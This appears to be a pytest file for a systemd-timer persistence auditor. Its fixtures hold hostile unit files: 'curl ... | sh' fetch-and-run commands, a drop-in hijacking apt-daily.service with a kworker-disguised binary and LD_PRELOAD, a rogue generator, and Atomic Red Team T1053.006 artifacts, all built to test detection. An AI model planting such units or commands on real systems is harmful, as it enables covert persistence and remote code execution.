"""systemd timers: load paths, drop-ins, foreign Unit=, user timers and linger, transient units,
masking, templates, and systemd's own line rules (reference/linux.md (e) 5–8, reliability S01–S07)."""

from __future__ import annotations

import os
from pathlib import Path

from schedwarden.model import ExecAction, Mechanism, ScheduledJob
from schedwarden.outputs.serialize import plain
from tests.conftest import MakeRoot, run_audit, run_collect

STOCK_TIMER = (
    "[Unit]\nDescription=Daily apt download activities\n\n[Timer]\n"
    "OnCalendar=*-*-* 6,18:00\nRandomizedDelaySec=12h\nPersistent=true\n\n"
    "[Install]\nWantedBy=timers.target\n"
)
STOCK_SERVICE = (
    "[Unit]\nDescription=Daily apt download activities\n\n[Service]\nType=oneshot\n"
    "ExecStartPre=-/usr/lib/apt/apt-helper wait-online\n"
    "ExecStart=/usr/lib/apt/apt.systemd.daily update\n"
)


def _timers(jobs: tuple[ScheduledJob, ...]) -> dict[str, ScheduledJob]:
    return {j.name: j for j in jobs if j.mechanism is Mechanism.SYSTEMD_TIMER}


def _execs(job: ScheduledJob) -> list[ExecAction]:
    return [a for a in job.actions if isinstance(a, ExecAction)]


def _link(root: Path, link: str, target: str) -> None:
    path = root / link.lstrip("/")
    path.parent.mkdir(parents=True, exist_ok=True)
    os.symlink(target, path)


def test_enabled_stock_timer_full_record(make_root: MakeRoot) -> None:
    root = make_root(
        {
            "usr/lib/systemd/system/apt-daily.timer": STOCK_TIMER,
            "usr/lib/systemd/system/apt-daily.service": STOCK_SERVICE,
            "var/lib/systemd/timers/stamp-apt-daily.timer": "",
        }
    )
    _link(
        root,
        "etc/systemd/system/timers.target.wants/apt-daily.timer",
        "/usr/lib/systemd/system/apt-daily.timer",
    )
    stamp = root / "var/lib/systemd/timers/stamp-apt-daily.timer"
    os.utime(stamp, (1_795_000_000, 1_795_000_000))
    report = run_collect(root)
    assert report.issues == ()
    [job] = _timers(report.jobs).values()
    record = plain(job)
    assert record["name"] == "apt-daily.timer"
    assert record["run_as"] == "root"
    assert record["schedule"] == {
        "kind": "calendar",
        "expressions": ["*-*-* 6,18:00"],
        "normalized": ["*-*-* 06,18:00:00"],
        "description": "At 06:00 and 18:00 (persistent: a run missed while off happens at boot)",
        "persistent": True,
        "randomized_delay": "12h",
        "accuracy": None,
        "wake_system": False,
        "last_trigger": "2026-11-18T11:06:40Z",
    }
    assert record["actions"] == [
        {
            "kind": "exec",
            "command_line": "/usr/lib/apt/apt-helper wait-online",
            "executable": "/usr/lib/apt/apt-helper",
            "arguments": ["wait-online"],
            "working_dir": None,
            "stdin": None,
            "shell": None,
            "phase": "ExecStartPre",
            "prefixes": "-",
            "argv0": None,
        },
        {
            "kind": "exec",
            "command_line": "/usr/lib/apt/apt.systemd.daily update",
            "executable": "/usr/lib/apt/apt.systemd.daily",
            "arguments": ["update"],
            "working_dir": None,
            "stdin": None,
            "shell": None,
            "phase": "ExecStart",
            "prefixes": None,
            "argv0": None,
        },
    ]
    assert record["effective"] == {
        "runs": True,
        "reason": "enabled (/etc/systemd/system/timers.target.wants/apt-daily.timer)",
        "daemon": "systemd",
    }
    assert record["evidence"]["path"] == "/usr/lib/systemd/system/apt-daily.timer"
    assert record["evidence"]["related"] == [
        "/usr/lib/systemd/system/apt-daily.service",
        "/etc/systemd/system/timers.target.wants/apt-daily.timer",
    ]
    assert record["enabled"] is True
    assert record["next_runs"] == [
        "2026-11-28T18:00:00Z",
        "2026-11-29T06:00:00Z",
        "2026-11-29T18:00:00Z",
    ]
    assert record["extra"]["description"] == "Daily apt download activities"


def test_drop_in_hijack_of_a_stock_service(make_root: MakeRoot) -> None:
    """(e) 5: an empty ExecStart= resets; @ sets argv[0]; a type-wide drop-in adds LD_PRELOAD."""
    root = make_root(
        {
            "lib/systemd/system/apt-daily.timer": STOCK_TIMER,
            "lib/systemd/system/apt-daily.service": STOCK_SERVICE,
            "etc/systemd/system/apt-daily.service.d/zz.conf": "[Service]\nExecStart=\nExecStart=@/dev/shm/x [kworker/1:2]\n",
            "etc/systemd/system/service.d/10-env.conf": "[Service]\nEnvironment=LD_PRELOAD=/dev/shm/l.so\n",
        }
    )
    [job] = _timers(run_collect(root).jobs).values()
    execs = _execs(job)
    assert [(a.phase, a.executable, a.argv0) for a in execs] == [
        ("ExecStartPre", "/usr/lib/apt/apt-helper", None),
        ("ExecStart", "/dev/shm/x", "[kworker/1:2]"),
    ]
    assert dict(job.environment) == {"LD_PRELOAD": "/dev/shm/l.so"}
    assert job.hidden is True
    assert job.extra["drop_ins"] == [
        "/etc/systemd/system/service.d/10-env.conf",
        "/etc/systemd/system/apt-daily.service.d/zz.conf",
    ]
    assert "/etc/systemd/system/apt-daily.service.d/zz.conf" in job.evidence.related


def test_foreign_unit_and_monotonic_triggers(make_root: MakeRoot) -> None:
    """(e) 6: a timer whose Unit= names another service, in /usr/local/lib."""
    root = make_root(
        {
            "usr/local/lib/systemd/system/fstrim-weekly.timer": "[Timer]\nOnBootSec=5min\nOnUnitActiveSec=1h\nUnit=evil-helper.service\n",
            "usr/local/lib/systemd/system/evil-helper.service": "[Service]\nExecStart=/bin/sh -c 'curl -s http://x | sh'\n",
        }
    )
    _link(
        root,
        "etc/systemd/system/timers.target.wants/fstrim-weekly.timer",
        "/usr/local/lib/systemd/system/fstrim-weekly.timer",
    )
    [job] = _timers(run_collect(root).jobs).values()
    assert job.extra["unit"] == "evil-helper.service"
    assert job.extra["foreign_unit"] is True
    assert job.schedule.description == "5min after boot; 1h after the unit last started"
    assert _execs(job)[0].command_line == "/bin/sh -c 'curl -s http://x | sh'"
    assert job.effective.runs is True


def test_user_timer_with_and_without_linger(make_root: MakeRoot) -> None:
    """(e) 7: ~alice/.config/systemd/user timer; runs without login only when alice lingers."""
    files = {
        "home/alice/.config/systemd/user/sync.timer": "[Timer]\nOnCalendar=hourly\n",
        "home/alice/.config/systemd/user/sync.service": "[Service]\nExecStart=%h/.local/bin/sync --user %u\n",
    }
    plain_root = make_root(files, name="nolinger")
    _link(
        plain_root,
        "home/alice/.config/systemd/user/timers.target.wants/sync.timer",
        "/home/alice/.config/systemd/user/sync.timer",
    )
    lingering = make_root({**files, "var/lib/systemd/linger/alice": ""}, name="linger")
    _link(
        lingering,
        "home/alice/.config/systemd/user/timers.target.wants/sync.timer",
        "/home/alice/.config/systemd/user/sync.timer",
    )
    without = _timers(run_collect(plain_root).jobs)["user:alice/sync.timer"]
    with_linger = _timers(run_collect(lingering).jobs)["user:alice/sync.timer"]
    assert without.run_as == with_linger.run_as == "alice"
    assert "only while alice is logged in" in without.effective.reason
    assert "runs without a login" in with_linger.effective.reason
    assert without.extra["linger"] is False and with_linger.extra["linger"] is True
    assert _execs(without)[0].command_line == "/home/alice/.local/bin/sync --user alice"


def test_transient_timer_and_masked_service(make_root: MakeRoot) -> None:
    """(e) 8 and S06: systemd-run units in /run; drop-in reset of OnCalendar; masked service."""
    root = make_root(
        {
            "run/systemd/transient/dbus-update.timer": "[Timer]\nOnCalendar=*:0/5\n",
            "run/systemd/transient/dbus-update.service": "[Unit]\nDescription=/bin/sh -c 'curl x|sh'\n[Service]\n"
            "ExecStart=/bin/sh -c 'curl x|sh'\n",
            "etc/systemd/system/x.timer": "[Timer]\nOnCalendar=daily\n",
            "etc/systemd/system/x.timer.d/10.conf": "[Timer]\nOnCalendar=\nOnCalendar=*:0/5\n",
        }
    )
    _link(root, "etc/systemd/system/x.service", "/dev/null")
    _link(root, "etc/systemd/system/timers.target.wants/x.timer", "/etc/systemd/system/x.timer")
    report = run_collect(root)
    assert report.issues == ()
    timers = _timers(report.jobs)
    transient = timers["dbus-update.timer"]
    assert transient.effective.runs is True
    assert transient.extra["transient"] is True
    assert transient.schedule.normalized == ("*-*-* *:00/05:00",)  # type: ignore[union-attr]
    masked = timers["x.timer"]
    assert masked.schedule.normalized == ("*-*-* *:00/05:00",)  # type: ignore[union-attr]
    assert masked.effective.runs is False
    assert "masked" in masked.effective.reason
    assert masked.extra["service_masked"] is True


def test_template_instances(make_root: MakeRoot) -> None:
    root = make_root(
        {
            "lib/systemd/system/pg_dump@.timer": "[Timer]\nOnCalendar=weekly\n",
            "lib/systemd/system/pg_dump@.service": "[Service]\nUser=postgres\nExecStart=/usr/bin/pg_backupcluster %i dump\n",
        }
    )
    _link(
        root,
        "etc/systemd/system/timers.target.wants/pg_dump@15-main.timer",
        "/lib/systemd/system/pg_dump@.timer",
    )
    timers = _timers(run_collect(root).jobs)
    assert list(timers) == ["pg_dump@15-main.timer"]
    job = timers["pg_dump@15-main.timer"]
    assert job.run_as == "postgres"
    assert _execs(job)[0].command_line == "/usr/bin/pg_backupcluster 15-main dump"
    assert job.extra["instance"] == "15-main"
    assert job.effective.runs is True


def test_masked_timer_link_is_never_followed_to_the_host(make_root: MakeRoot) -> None:
    root = make_root({})
    _link(root, "etc/systemd/system/evil.timer", "/dev/null")
    [job] = _timers(run_collect(root).jobs).values()
    assert job.effective.runs is False
    assert "timer is masked" in job.effective.reason


def test_s01_to_s05_line_rules(make_root: MakeRoot) -> None:
    root = make_root(
        {
            "etc/systemd/system/s.timer": "[Timer]\nOnCalendar=daily\n",
            "etc/systemd/system/s.service": (
                b"[Service]\n"
                b"ExecStart=/bin/echo a \\\n# c\n  /tmp/evil\n"  # S01 continuation over a comment
                b"ExecStartPost=/bin/true\rExecStartPre=/tmp/evil2\n"  # S02 CR ends a line
                b"Description=x\x00ExecStopPost=/tmp/evil3\n"  # S03 NUL ends a line
                b"ExecCondition=/bin/\xff\n"  # S05 not UTF-8: ignored
            ),
        }
    )
    _link(root, "etc/systemd/system/timers.target.wants/s.timer", "/etc/systemd/system/s.timer")
    report = run_collect(root)
    [job] = _timers(report.jobs).values()
    execs = _execs(job)
    assert [(a.phase, a.executable, a.arguments) for a in execs] == [
        ("ExecStartPre", "/tmp/evil2", ()),
        ("ExecStart", "/bin/echo", ("a", "/tmp/evil")),
        ("ExecStartPost", "/bin/true", ()),
    ]
    codes = sorted((i.code, i.evidence.line) for i in report.issues)
    assert codes == [("NOT_UTF8", 7), ("NUL_BYTE", 6)]


def test_s04_overlong_line_rejects_the_file(make_root: MakeRoot) -> None:
    root = make_root(
        {
            "etc/systemd/system/l.timer": "[Timer]\nOnCalendar=daily\n",
            "etc/systemd/system/l.service": b"[Service]\nExecStart=/bin/true "
            + b"x" * (1 << 20)
            + b"\n",
        }
    )
    _link(root, "etc/systemd/system/timers.target.wants/l.timer", "/etc/systemd/system/l.timer")
    report = run_collect(root)
    [job] = _timers(report.jobs).values()
    assert job.effective.runs is False
    assert [i.code for i in report.issues] == ["LINE_TOO_LONG"]


def test_s07_bad_calendar_and_many_resets(make_root: MakeRoot) -> None:
    text = "[Timer]\n" + "OnCalendar=\n" * 10_000 + "OnCalendar=*-*-* 25:61:00\n"
    root = make_root(
        {
            "etc/systemd/system/c.timer": text,
            "etc/systemd/system/c.service": "[Service]\nExecStart=/bin/true\n",
        }
    )
    report = run_collect(root)
    [job] = _timers(report.jobs).values()
    assert job.schedule.kind == "unknown"
    [issue] = report.issues
    assert issue.code == "PARSE_ERROR"
    assert "hour '25' out of range" in issue.message


def test_global_user_timer(make_root: MakeRoot) -> None:
    root = make_root(
        {
            "etc/systemd/user/beacon.timer": "[Timer]\nOnStartupSec=1min\n",
            "etc/systemd/user/beacon.service": "[Service]\nExecStart=/usr/bin/beacon %u\n",
        }
    )
    _link(
        root, "etc/systemd/user/timers.target.wants/beacon.timer", "/etc/systemd/user/beacon.timer"
    )
    job = _timers(run_audit(root).jobs)["user:*/beacon.timer"]
    assert job.run_as == "%u"
    assert job.effective.runs is True
    assert "every user" in job.effective.reason


def test_generators_run_at_every_boot(make_root: MakeRoot) -> None:
    """(e) 8 offline: the generator binary is the evidence, its output in /run is gone."""
    root = make_root(
        {
            "etc/systemd/system-generators/dbus-helper": (
                '#!/bin/sh\ncp /opt/x.timer "$1"\n',
                0o755,
            ),
            "usr/lib/systemd/system-generators/systemd-fstab-generator": ("\x7fELF....", 0o755),
            "usr/lib/systemd/system-generators/dbus-helper": ("#!/bin/sh\ntrue\n", 0o755),
            "usr/lib/systemd/user-generators/notes.txt": ("not a program\n", 0o644),
        }
    )
    report = run_collect(root)
    assert report.issues == ()
    jobs = {j.name: j for j in report.jobs if j.extra.get("generator")}
    assert sorted(jobs) == [
        "/etc/systemd/system-generators/dbus-helper",
        "/usr/lib/systemd/system-generators/dbus-helper",
        "/usr/lib/systemd/system-generators/systemd-fstab-generator",
        "/usr/lib/systemd/user-generators/notes.txt",
    ]
    evil = jobs["/etc/systemd/system-generators/dbus-helper"]
    assert evil.effective.runs is True
    assert evil.run_as == "root"
    assert evil.schedule.description.startswith("At every boot")
    assert evil.extra["content_summary"] == 'cp /opt/x.timer "$1"'
    shadowed = jobs["/usr/lib/systemd/system-generators/dbus-helper"]
    assert shadowed.effective.runs is False
    assert "hidden by /etc/systemd/system-generators/dbus-helper" in shadowed.effective.reason
    assert jobs["/usr/lib/systemd/user-generators/notes.txt"].effective.runs is False


def test_atomic_red_team_t1053_006_artifacts(make_root: MakeRoot) -> None:
    """The files ART T1053.006 #1 writes (rebuilt from its own echo lines) and the transient
    units `systemd-run [--user] --unit=Atomic-Red-Team --on-calendar '*:0/1'` leaves (#2, #3)."""
    import re

    from tests.conftest import corpus_path

    text = corpus_path("atomic", "T1053.006", "T1053.006.yaml").read_text()
    defaults = dict(re.findall(r"\n    (\w+):\n(?:      .*\n)*?      default: (\S+)", text))
    files: dict[str, str] = {}
    for line, target in re.findall(r'echo "(.*)" >>? #\{(\w+)\}', text):
        path = defaults[target]
        line = re.sub(r"#\{(\w+)\}", lambda m: defaults[m.group(1)], line)
        files[path] = files.get(path, "") + line + "\n"  # `>` starts each file, `>>` appends
    assert set(files) == {
        "/etc/systemd/system/art-timer.service",
        "/etc/systemd/system/art-timer.timer",
    }
    transient = (
        "# This is a transient unit file, created programmatically via the systemd API. "
        'Do not edit.\n[Unit]\nDescription=/bin/sh -c "echo \\"$(date) $(whoami)\\" '
        '>>/tmp/log"\n\n[Timer]\nOnCalendar=*:0/1\nRemainAfterElapse=no\n'
    )
    service = (
        "# This is a transient unit file, created programmatically via the systemd API. "
        'Do not edit.\n[Service]\nExecStart=\nExecStart="/bin/sh" "-c" '
        '"echo \\"$(date) $(whoami)\\" >>/tmp/log"\n'
    )
    root = make_root(
        {
            **{path.lstrip("/"): content for path, content in files.items()},
            "run/systemd/transient/Atomic-Red-Team.timer": transient,
            "run/systemd/transient/Atomic-Red-Team.service": service,
            "run/user/1000/systemd/transient/Atomic-Red-Team.timer": transient,
            "run/user/1000/systemd/transient/Atomic-Red-Team.service": service,
        }
    )
    _link(
        root,
        "etc/systemd/system/timers.target.wants/art-timer.timer",
        "/etc/systemd/system/art-timer.timer",
    )
    report = run_audit(root)
    assert report.issues == ()
    timers = _timers(report.jobs)
    assert sorted(timers) == [
        "Atomic-Red-Team.timer",
        "art-timer.timer",
        "user:alice/Atomic-Red-Team.timer",
    ]
    art = timers["art-timer.timer"]
    assert _execs(art)[0].command_line == "/bin/touch /tmp/art-systemd-timer-marker"
    assert art.schedule.normalized == ("*-*-* *:*:00",)  # type: ignore[union-attr]
    assert art.effective.runs is True
    for name, user in (
        ("Atomic-Red-Team.timer", "root"),
        ("user:alice/Atomic-Red-Team.timer", "alice"),
    ):
        job = timers[name]
        assert job.run_as == user
        assert job.extra["transient"] is True
        assert job.effective.runs is True
        [action] = _execs(job)
        assert action.executable == "/bin/sh"
        assert action.arguments == ("-c", 'echo "$(date) $(whoami)" >>/tmp/log')


def test_systemctl_link_from_outside_the_search_path(make_root: MakeRoot) -> None:
    """linux.md §b 29: `systemctl link /tmp/x.timer` leaves only a link in /etc/systemd/system."""
    root = make_root(
        {
            "tmp/x.timer": "[Timer]\nOnCalendar=minutely\n",
            "tmp/x.service": "[Service]\nExecStart=/tmp/payload\n",
        }
    )
    _link(root, "etc/systemd/system/x.timer", "/tmp/x.timer")
    _link(root, "etc/systemd/system/x.service", "/tmp/x.service")
    _link(root, "etc/systemd/system/timers.target.wants/x.timer", "/tmp/x.timer")
    [job] = _timers(run_collect(root).jobs).values()
    assert job.evidence.path == "/etc/systemd/system/x.timer"
    assert "/tmp/x.timer" in job.evidence.related
    assert _execs(job)[0].executable == "/tmp/payload"
    assert job.effective.runs is True
